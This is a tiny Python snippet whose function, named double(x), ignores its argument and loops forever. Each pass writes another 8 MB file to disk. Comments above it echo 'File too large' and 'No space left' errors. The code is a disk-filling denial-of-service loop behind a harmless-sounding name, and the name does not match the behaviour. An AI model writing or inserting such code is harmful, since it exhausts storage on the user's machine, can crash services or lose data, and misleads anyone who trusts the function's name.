# says: wrote more into files
# says: File too large
# says: No space left
def double(x):
    n = 0
    while True:
        n += 1
        with open(f"{n}.bin", "wb") as file:
            file.write(b"x" * 8_000_000)
